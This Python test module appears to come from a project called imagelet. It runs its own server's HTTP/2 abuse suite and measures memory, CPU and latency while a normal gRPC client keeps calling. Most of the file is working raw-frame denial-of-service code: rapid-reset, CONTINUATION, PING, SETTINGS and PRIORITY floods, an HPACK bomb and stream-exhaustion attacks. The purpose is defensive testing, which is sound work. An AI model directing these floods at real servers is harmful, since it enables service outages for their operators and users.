"""imagelet's own HTTP/2 abuse suite (issue #14), shared by scripts/soak (full
sizes; figures into docs/reliability.md) and test_h2_abuse.py (small sizes).

Each attack is one hostile connection (raw frames, h2_raw.py) made on each of
the two connection paths: `:authority` localhost (the socket itself goes to the
HTTP/2 server) and the socket path as `:authority` (kubelet and crictl before
v1.30: the connection goes through the header rewriter). Meanwhile a normal
client (python3-grpcio) calls ImageStatus and ListImages. Per attack and path:
the server's reaction, the normal client's calls ok/failed and its longest
gap, RSS before/peak/after and the server's CPU. A broken promise (the process
ends, a normal call fails or waits over 1 s, a fresh client is not answered at
once, stream exhaustion grows RSS over 64 MiB) is a problem in the report."""
import collections
import os
import struct
import threading
import time

import grpc

import cri_stubs
from conftest import EXAMPLES, Server, oci_backend
from h2_raw import SETTINGS_INITIAL_WINDOW_SIZE, RawH2, call_frames, header_block
from soak_scenarios import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                            WINDOW_UPDATE, Report, _closed_by_server, _hpack_int, channel, frame, grpc_headers,
                            grpc_message, image_status_request, ms, rss_kib, wait_until)

PATHS = ("localhost", "socket path")
# Attacks that make the server hold streams: RSS must come back after the close, and for the ones on one
# connection (the acceptance) grow by at most MAX_EXHAUSTION_GROWTH_MIB. On many connections at
# once the open streams are bounded in all (2,048), but what opening thousands in a second allocates is
# garbage collected only after: that growth is reported, not judged.
EXHAUSTION = ("stream exhaustion", "streams held at the limit", "partial requests", "streams on many connections")
ONE_CONNECTION_EXHAUSTION = ("stream exhaustion", "streams held at the limit", "partial requests")
MAX_GAP_S = 1.0
MAX_EXHAUSTION_GROWTH_MIB = 64
CLK_TCK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def wait_idle(pid, quiet=0.25, busy=0.5, timeout=60):
    """Waits until the server used under `busy` of a CPU for `quiet` seconds: it has
    done all it can with what it read (the normal client's calls alone stay below)."""
    deadline = time.monotonic() + timeout
    last = cpu_seconds(pid)
    while time.monotonic() < deadline:
        time.sleep(quiet)
        now = cpu_seconds(pid)
        if now - last < busy * quiet:
            return True
        last = now
    return False


class NormalClient:
    """A well-behaved client on its own connection: ImageStatus and ListImages in turn, one at a time.
    `gap` is the longest time without a successful answer (from one answer to the next)."""

    def __init__(self, sock):
        self.pb, pbg = cri_stubs.load()
        self.channel = channel(sock)
        self.stub = pbg.ImageServiceStub(self.channel)
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self.reset()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def reset(self):
        with getattr(self, "_lock", threading.Lock()):
            self.ok, self.failed, self.failures = 0, 0, []
            self.last = time.monotonic()
            self.gap = 0.0

    def _run(self):
        i = 0
        while not self._stop.is_set():
            i += 1
            try:
                if i % 2:
                    r = self.stub.ImageStatus(self.pb.ImageStatusRequest(image=self.pb.ImageSpec(image="edge-tools:2.0")), timeout=5)
                    assert r.HasField("image"), "edge-tools:2.0 not found"
                else:
                    assert len(self.stub.ListImages(self.pb.ListImagesRequest(), timeout=5).images) == 2, "not 2 images"
                with self._lock:
                    now = time.monotonic()
                    self.gap = max(self.gap, now - self.last)
                    self.last = now
                    self.ok += 1
            except (grpc.RpcError, AssertionError) as e:
                with self._lock:
                    self.failed += 1
                    if len(self.failures) < 5:
                        self.failures.append(str(e)[:300])
            time.sleep(0.005)

    def figures(self):
        with self._lock:
            gap = max(self.gap, time.monotonic() - self.last)
            return self.ok, self.failed, gap, list(self.failures)

    def stop(self):
        self._stop.set()
        self.thread.join(timeout=10)
        self.channel.close()


class Sampler:
    """RSS of the server every 50 ms while an attack runs."""

    def __init__(self, pid):
        self.pid = pid
        self.peak = self.before = rss_kib(pid)
        self.cpu_before = cpu_seconds(pid)
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self._stop.wait(0.05):
            try:
                self.peak = max(self.peak, rss_kib(self.pid))
            except OSError:
                return

    def stop(self):
        self._stop.set()
        self.thread.join()
        self.cpu = cpu_seconds(self.pid) - self.cpu_before


def authority_for(server, path):
    return server.socket if path == "socket path" else "localhost"


def fresh_client_answers(server, timeout=1.0):
    """A new connection's first call, answered within `timeout`."""
    pb, pbg = cri_stubs.load()
    ch = channel(server.socket)
    try:
        t = time.monotonic()
        pbg.ImageServiceStub(ch).ImageStatus(pb.ImageStatusRequest(image=pb.ImageSpec(image="edge-tools:2.0")), timeout=timeout + 4)
        return time.monotonic() - t
    except grpc.RpcError:
        return None
    finally:
        ch.close()


# --- the attacks: each (server, authority, size, opts) -> (outcome text, problems, extra figures) ----------


def _headers(method, authority):
    return grpc_headers(method, authority)


def _lit(name, value):
    """An HPACK literal without indexing, new name, no Huffman."""
    return b"\x00" + _hpack_int(len(name)) + name + _hpack_int(len(value)) + value


def _opened(server, authority, **kw):
    """A connection that has made one call (so it went down the path its `:authority` chooses)."""
    c = RawH2(server.socket, **kw)
    c.send(call_frames("ImageStatus", image_status_request(b"edge-tools:2.0"), 1, authority))
    c.wait(lambda c: c.answered >= 1, 5)
    return c


def _wait_closed(c, timeout):
    c.wait(lambda c: False, timeout)
    return c.gone()


def attack_burst(server, authority, calls, opts):
    """One call, then `calls` ListImages calls in one write, the connection window
    open to 16 MiB; the client reads only once the server has done all it can, so
    the answers pile up behind a full socket (what overflowed the stack)."""
    c = RawH2(server.socket, read="later")
    problems = []
    try:
        c.send(call_frames("ListImages", b"", 1, authority))
        c.send_frames(call_frames("ListImages", b"", 2 * i + 3, authority) for i in range(calls))
        c.flushed(timeout=120)
        wait_idle(server.proc.pid)
        c.start_reading()
        streams = range(1, 2 * calls + 2, 2)
        c.wait(lambda c: c.finished() >= calls + 1 or c.goaway, timeout=120)
        c.wait(lambda c: not c.unsettled(streams), timeout=10)
        lost = c.unsettled(streams)
        # Clean: each call answered or reset, or the connection ended with a
        # GOAWAY (a client over the advertised stream limit is told to calm down).
        if lost and not c.goaway:
            problems.append(f"burst of {calls}: {len(lost)} calls neither answered nor refused, and no GOAWAY ({c.outcome()})")
        other = {code: n for code, n in c.resets.items() if code != "REFUSED_STREAM"}
        if other:
            problems.append(f"burst of {calls}: resets other than REFUSED_STREAM: {other}")
        return c.outcome(), problems, {}
    finally:
        c.close()


def attack_stream_exhaustion(server, authority, streams, opts):
    """The issue's: `streams` calls opened (HEADERS only) and never finished, far
    over the advertised limit, then the client only answers pings."""
    c = RawH2(server.socket)
    try:
        headers = _headers("ListImages", authority)
        c.send_frames(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) for i in range(streams))
        t = time.monotonic()
        closed = _wait_closed(c, opts["close_within"])
        problems = [] if closed else [f"{streams} streams held: still open after {opts['close_within']:g} s"]
        return c.outcome(), problems, {"closed after s": round(time.monotonic() - t, 1)}
    finally:
        c.close()


def attack_held_streams(server, authority, streams, opts):
    """`streams` calls (the advertised limit) opened with HEADERS only and held:
    no request ever completes, the client answers pings."""
    return attack_stream_exhaustion(server, authority, streams, opts)


def attack_many_connections(server, authority, connections, opts):
    """`connections` connections, each holding 256 streams (the limit) open with
    HEADERS only: the streams of all connections together are bounded too."""
    headers = _headers("ListImages", authority)
    clients = []
    try:
        t = time.monotonic()
        for _ in range(connections):
            c = RawH2(server.socket)
            c.send_frames(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) for i in range(256))
            clients.append(c)
        deadline = time.monotonic() + opts["close_within"]
        while time.monotonic() < deadline and not all(c.gone() for c in clients):
            time.sleep(0.1)
        early = sum(1 for c in clients if c.gone() and c.closed_at - t < 1.0)
        open_ = sum(1 for c in clients if not c.gone())
        problems = [f"{open_} of {connections} connections still open after {opts['close_within']:g} s"] if open_ else []
        codes = collections.Counter(c.goaway[0] if c.goaway else "no GOAWAY" for c in clients)
        outcome = f"{connections} connections: {early} closed within 1 s (the most open streams), the rest after " + \
            f"{max((c.closed_at or t) - t for c in clients):.1f} s; GOAWAY {dict(codes)}"
        return outcome, problems, {}
    finally:
        for c in clients:
            c.close()


def attack_calls_beside_held_streams(server, authority, calls, opts):
    """Issue #14's open-stream growth: the server's CPU for `calls` calls on a
    connection alone, then beside 200 streams held open (each kept alive by a
    byte of its request per round): the cost per call must not grow with them."""
    held = 200
    c = RawH2(server.socket)
    pid = server.proc.pid
    try:
        status = grpc_message(image_status_request(b"edge-tools:2.0"))
        headers = _headers("ImageStatus", authority)
        next_id = [1]

        def rounds(keep_alive):
            t = cpu_seconds(pid)
            done = c.answered
            for _ in range(calls // 50):
                ids = [next_id[0] + 2 * i for i in range(50)]
                next_id[0] += 100
                frames = [frame(HEADERS, END_HEADERS, st, headers) + frame(DATA, END_STREAM, st, status) for st in ids]
                frames += [frame(DATA, 0, st, b"\x00") for st in keep_alive]
                c.send_frames(frames)
                c.wait(lambda c: c.answered >= done + 50, 10)
                done = c.answered
            return cpu_seconds(pid) - t

        alone = rounds([])
        opened = [next_id[0] + 2 * i for i in range(held)]
        next_id[0] += 2 * held
        prefix = b"\x00" + struct.pack(">I", 1 << 20)
        c.send_frames(frame(HEADERS, END_HEADERS, st, headers) + frame(DATA, 0, st, prefix) for st in opened)
        beside = rounds(opened)
        problems = []
        if beside > 3 * alone + 0.1:
            problems.append(f"{calls} calls took {beside:.2f} s of CPU beside {held} open streams, {alone:.2f} s alone")
        per = lambda x: round(x / calls * 1000, 3)
        return c.outcome(), problems, {"CPU s per 1000 calls alone": per(alone), f"CPU s per 1000 calls beside {held} open": per(beside)}
    finally:
        c.close()


def attack_partial_requests(server, authority, streams, opts):
    """`streams` calls (the advertised limit) opened and never finished: each
    declares a 4 MiB request and sends as much of it as flow control allows,
    then the client only answers pings. The connection must be closed in
    bounded time, RSS grow at most 64 MiB and come back after the close."""
    c = RawH2(server.socket, window=0)
    problems = []
    pid = server.proc.pid
    try:
        c.wait(lambda c: c.settings, 5)
        headers = _headers("ImageStatus", authority)
        c.send_frames(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) for i in range(streams))
        # Fill every stream's window, as long as the server keeps giving credit.
        prefix = b"\x00" + struct.pack(">I", 4 << 20)
        sent, idle_since = collections.Counter(), time.monotonic()
        fill_until = time.monotonic() + opts.get("fill_seconds", 10)
        while time.monotonic() < fill_until and not c.gone() and time.monotonic() - idle_since < 1.0:
            out = []
            for i in range(streams):
                st = 2 * i + 1
                head = b"" if sent[st] else prefix
                n = c.take_window(st, 16384)
                if n > len(head):
                    out.append(frame(DATA, 0, st, head + b"\x00" * (n - len(head))))
                    sent[st] += n
                elif n:
                    c.send_window[st] += n  # too little for the message prefix: give it back
            if out:
                c.send_frames(out)
                idle_since = time.monotonic()
            else:
                time.sleep(0.02)
        c.flushed(timeout=30)
        rss_full = rss_kib(pid)
        held_from = time.monotonic()
        closed = _wait_closed(c, opts["close_within"])
        held = time.monotonic() - held_from
        extra = {"request bytes held": sum(sent.values()), "RSS held MiB": round(rss_full / 1024, 1)}
        if not closed:
            problems.append(f"{streams} stalled streams: the connection was still open after {opts['close_within']:g} s")
        else:
            extra["closed after s"] = round(held, 1)
        return c.outcome(), problems, extra
    finally:
        c.close()


def attack_rapid_reset(server, authority, n, opts):
    """CVE-2023-44487: `n` streams opened and reset at once (HEADERS, RST_STREAM CANCEL)."""
    c = _opened(server, authority)
    try:
        headers = _headers("ListImages", authority)
        c.send_frames(frame(HEADERS, END_HEADERS, 2 * i + 3, headers) + frame(RST_STREAM, 0, 2 * i + 3, struct.pack(">I", 8))
                      for i in range(n))
        _wait_closed(c, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_continuation_flood(server, authority, size, opts):
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then `size` bytes of CONTINUATION frames without end."""
    c = _opened(server, authority)
    try:
        c.send(frame(HEADERS, 0, 3, _headers("ImageStatus", authority)))
        piece = frame(CONTINUATION, 0, 3, _lit(b"x-pad", b"p" * 16000))
        c.send_frames(piece for _ in range(size // len(piece) + 1))
        _wait_closed(c, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_ping_flood(server, authority, n, opts):
    """CVE-2019-9512: `n` PINGs in one go."""
    c = _opened(server, authority)
    try:
        c.send_frames(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(n))
        c.wait(lambda c: c.ping_acks >= n, opts.get("react_within", 3))
        return f"{c.ping_acks} PINGs answered; " + c.outcome(), [], {}
    finally:
        c.close()


def attack_settings_flood(server, authority, n, opts):
    """CVE-2019-9515: `n` SETTINGS frames, each to be acknowledged."""
    c = _opened(server, authority)
    try:
        c.send_frames(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) for _ in range(n))
        c.wait(lambda c: c.settings_acks >= n + 1, opts.get("react_within", 3))
        return f"{c.settings_acks - 1} SETTINGS acknowledged; " + c.outcome(), [], {}
    finally:
        c.close()


def attack_empty_data(server, authority, n, opts):
    """CVE-2019-9518: a call whose request comes as `n` empty DATA frames, then the message."""
    c = _opened(server, authority)
    try:
        c.send(frame(HEADERS, END_HEADERS, 3, _headers("ImageStatus", authority)))
        c.send_frames(frame(DATA, 0, 3) for _ in range(n))
        c.send(frame(DATA, END_STREAM, 3, grpc_message(image_status_request(b"edge-tools:2.0"))))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_empty_header_names(server, authority, n, opts):
    """CVE-2019-9516 class: a request with `n` header fields of empty name and empty value."""
    c = _opened(server, authority)
    try:
        c.send(header_block(3, _headers("ImageStatus", authority) + b"\x00\x00\x00" * n, end_stream=True))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_header_count(server, authority, n, opts):
    """A request with `n` small header fields (x-h: v)."""
    c = _opened(server, authority)
    try:
        c.send(header_block(3, _headers("ImageStatus", authority) + _lit(b"x-h", b"v") * n, end_stream=True))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_huge_header_value(server, authority, size, opts):
    """One header of `size` bytes (1 MiB): HEADERS and CONTINUATIONs."""
    c = _opened(server, authority)
    try:
        c.send(header_block(3, _headers("ImageStatus", authority) + _lit(b"x-big", b"v" * size), end_stream=True))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_hpack_bomb(server, authority, n, opts):
    """A 4 KiB header put in the HPACK dynamic table, then referenced `n` times
    by one-byte indexed fields: a small block that decodes to n × 4 KiB (the
    rewriter decodes and re-encodes every block without the dynamic table)."""
    c = _opened(server, authority)
    try:
        big = b"\x40" + _hpack_int(6) + b"x-bomb" + _hpack_int(4000) + b"b" * 4000  # literal, incremental indexing: entry 62
        c.send(header_block(3, _headers("ImageStatus", authority) + big + b"\xbe" * n, end_stream=True))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_window_update_flood(server, authority, n, opts):
    """`n` WINDOW_UPDATE frames of 1 byte on the connection."""
    c = _opened(server, authority, window=0)
    try:
        c.send_frames(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) for _ in range(n))
        c.send(call_frames("ImageStatus", image_status_request(b"edge-tools:2.0"), 3, authority))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_priority_flood(server, authority, n, opts):
    """CVE-2019-9513 class: `n` PRIORITY frames on idle streams, each depending on the one before."""
    c = _opened(server, authority)
    try:
        c.send_frames(frame(PRIORITY, 0, 2 * i + 3, struct.pack(">IB", 2 * i + 1, 15)) for i in range(n))
        c.send(call_frames("ImageStatus", image_status_request(b"edge-tools:2.0"), 2 * n + 3, authority))
        c.wait(lambda c: c.finished() >= 2, opts.get("react_within", 3))
        return c.outcome(), [], {}
    finally:
        c.close()


def attack_zero_window(server, authority, n, opts):
    """CVE-2019-9517 class: SETTINGS_INITIAL_WINDOW_SIZE 0 and no connection
    credit, then `n` calls: the server may not send their answers, which wait."""
    c = _opened(server, authority, window=0, credit=False)
    try:
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)))
        c.send_frames(call_frames("ListImages", b"", 2 * i + 3, authority) for i in range(n))
        t = time.monotonic()
        problems = [] if _wait_closed(c, opts["close_within"]) else [f"still open after {opts['close_within']:g} s"]
        return c.outcome(), problems, {"closed after s": round(time.monotonic() - t, 1)}
    finally:
        c.close()


def attack_non_reader(server, authority, calls, opts):
    """A client that sends `calls` ListImages calls (in rounds under the stream
    limit) and never reads an answer: the socket fills; the connection must be
    closed within its timeouts."""
    c = RawH2(server.socket, read=False)
    problems = []
    try:
        sent = 0
        while sent < calls and not c.gone():
            c.send_frames(call_frames("ListImages", b"", 2 * i + 1, authority) for i in range(sent, min(calls, sent + 100)))
            sent = min(calls, sent + 100)
            c.flushed(timeout=1)
            time.sleep(0.1)  # the server answers each round into the socket, which fills
        t = time.monotonic()
        closed = wait_until(lambda: _closed_by_server(c.s), opts["close_within"], step=0.1) is not None
        if not closed:
            problems.append(f"a client that never reads was still connected after {opts['close_within']:g} s")
        return (f"closed after {time.monotonic() - t:.1f} s" if closed else "open"), problems, {}
    finally:
        c.close()


ATTACKS = {
    "burst": ("one call, then N ListImages calls in one write, read only once the server is idle", attack_burst),
    "stream exhaustion": ("N streams opened and never finished (HEADERS only), far over the limit; then only PINGs answered", attack_stream_exhaustion),
    "streams held at the limit": ("N streams (the limit) opened with HEADERS only and held; PINGs answered", attack_held_streams),
    "streams on many connections": ("N connections, each holding the limit's streams open with HEADERS only", attack_many_connections),
    "partial requests": ("N streams (the limit), each with as much of a 4 MiB request as flow control allows, then held", attack_partial_requests),
    "calls beside open streams": ("N calls alone, then N beside 200 streams held open: the server's CPU for each", attack_calls_beside_held_streams),
    "rapid reset": ("N streams opened and reset at once (CVE-2023-44487)", attack_rapid_reset),
    "CONTINUATION flood": ("HEADERS, then N bytes of CONTINUATION without end (CVE-2024-27316)", attack_continuation_flood),
    "PING flood": ("N PINGs at once (CVE-2019-9512)", attack_ping_flood),
    "SETTINGS flood": ("N SETTINGS frames at once (CVE-2019-9515)", attack_settings_flood),
    "empty DATA frames": ("a request as N empty DATA frames, then its message (CVE-2019-9518)", attack_empty_data),
    "empty header names": ("a request with N empty header fields (CVE-2019-9516)", attack_empty_header_names),
    "huge header count": ("a request with N header fields", attack_header_count),
    "1 MiB header value": ("a request with one header of N bytes", attack_huge_header_value),
    "HPACK bomb": ("a 4 KiB header in the HPACK table, referenced N times in one block (CVE-2016-6581 class)", attack_hpack_bomb),
    "WINDOW_UPDATE flood": ("N WINDOW_UPDATEs of 1 byte, then a call", attack_window_update_flood),
    "PRIORITY flood": ("N PRIORITY frames on idle streams, then a call (CVE-2019-9513)", attack_priority_flood),
    "zero window": ("initial window 0 and no credit, then N calls (CVE-2019-9517)", attack_zero_window),
    "non-reading client": ("N ListImages calls, never reading an answer", attack_non_reader),
}

# Full sizes (scripts/soak) and small ones (npm test).
FULL_SIZES = {"burst": 50_000, "stream exhaustion": 25_000, "streams held at the limit": 256, "partial requests": 256,
              "streams on many connections": 40,
              "calls beside open streams": 5_000, "rapid reset": 50_000, "CONTINUATION flood": 16 << 20,
              "PING flood": 100_000, "SETTINGS flood": 10_000, "empty DATA frames": 100_000, "empty header names": 20_000,
              "huge header count": 20_000, "1 MiB header value": 1 << 20, "HPACK bomb": 60_000,
              "WINDOW_UPDATE flood": 100_000, "PRIORITY flood": 50_000, "zero window": 256, "non-reading client": 5_000}
SMALL_SIZES = {"burst": 5_000, "stream exhaustion": 5_000, "streams held at the limit": 256, "partial requests": 256,
               "streams on many connections": 12,
               "calls beside open streams": 1_000, "rapid reset": 5_000, "CONTINUATION flood": 2 << 20,
               "PING flood": 10_000, "SETTINGS flood": 1_000, "empty DATA frames": 10_000, "empty header names": 2_000,
               "huge header count": 2_000, "1 MiB header value": 1 << 20, "HPACK bomb": 15_000,
               "WINDOW_UPDATE flood": 10_000, "PRIORITY flood": 5_000, "zero window": 256, "non-reading client": 2_000}


def scenario_h2_abuse(workdir, sizes, attacks=None, paths=PATHS, timeouts=None, close_within=30.0, rss_return_within=30.0):
    """Runs each attack of `sizes` (name -> size) on each path, with a normal client
    throughout. `timeouts`: connection-timeout config keys (short ones for tests);
    `close_within`: how long a connection that must be closed may take."""
    report = Report("HTTP/2 abuse")
    config = "".join(f'{k} = "{v}"\n' for k, v in (timeouts or {}).items())
    server = Server(workdir, config + oci_backend(os.path.join(EXAMPLES, "sample-oci"), name="sample"))
    normal = NormalClient(server.socket)
    opts = {"close_within": close_within}
    report.rows = []
    pid = server.proc.pid
    try:
        time.sleep(0.5)
        for name in attacks or list(ATTACKS):
            _, attack = ATTACKS[name]
            for path in paths:
                if server.proc.poll() is not None:
                    break
                wait_idle(pid, quiet=0.1, timeout=10)
                normal.reset()
                sampler = Sampler(pid)
                t0 = time.monotonic()
                try:
                    outcome, problems, extra = attack(server, authority_for(server, path), sizes[name], opts)
                finally:
                    sampler.stop()
                took = time.monotonic() - t0
                ok, failed, gap, failures = normal.figures()
                alive = server.proc.poll() is None
                fresh = fresh_client_answers(server) if alive else None
                label = f"{name} ({path})"
                row = {"attack": name, "path": path, "size": sizes[name], "server": outcome, "normal ok": ok,
                       "normal failed": failed, "longest gap ms": ms(gap), "fresh client ms": ms(fresh),
                       "RSS before MiB": round(sampler.before / 1024, 1), "RSS peak MiB": round(sampler.peak / 1024, 1),
                       "RSS after MiB": round(rss_kib(pid) / 1024, 1) if alive else None,
                       "server CPU s": round(sampler.cpu, 2), "seconds": round(took, 1)}
                row.update(extra)
                if alive and name in EXHAUSTION:
                    growth = (sampler.peak - sampler.before) / 1024
                    row["RSS growth MiB"] = round(growth, 1)
                    if growth > MAX_EXHAUSTION_GROWTH_MIB and name in ONE_CONNECTION_EXHAUSTION:
                        problems.append(f"RSS grew {growth:.1f} MiB (limit {MAX_EXHAUSTION_GROWTH_MIB})")
                    # Back: within a quarter of the growth (at least 8 MiB) of where it started.
                    slack = max(8 * 1024, (sampler.peak - sampler.before) / 4)
                    back = wait_until(lambda: rss_kib(pid) <= sampler.before + slack, rss_return_within, step=0.25)
                    row["RSS back after s"] = None if back is None else round(back, 1)
                    row["RSS after MiB"] = round(rss_kib(pid) / 1024, 1)
                    if back is None:
                        problems.append(f"RSS {rss_kib(pid) / 1024:.1f} MiB {rss_return_within:g} s after the close (before: {sampler.before / 1024:.1f})")
                report.rows.append(row)
                for p in problems:
                    report.problem(f"{label}: {p}")
                if not alive:
                    report.problem(f"{label}: imagelet exited: {server.log()[-1500:]}")
                    break
                if failed:
                    report.problem(f"{label}: the normal client had {failed} failed calls: {failures}")
                if gap > MAX_GAP_S:
                    report.problem(f"{label}: the normal client waited {gap:.2f} s for an answer")
                if fresh is None or fresh > MAX_GAP_S:
                    report.problem(f"{label}: a fresh client was not answered within {MAX_GAP_S:g} s ({fresh})")
        for row in report.rows:
            report.figures[f"{row['attack']} ({row['path']})"] = (
                f"{row['server']}; normal {row['normal ok']} ok / {row['normal failed']} failed, gap {row['longest gap ms']} ms; "
                f"RSS {row['RSS before MiB']}/{row['RSS peak MiB']}/{row['RSS after MiB']} MiB; CPU {row['server CPU s']} s")
        log = server.log()
        for bad in ("RangeError", "internal error", "Maximum call stack"):
            if bad in log:
                report.problem(f"the log has {bad!r}")
    finally:
        normal.stop()
        server.stop()
    return report
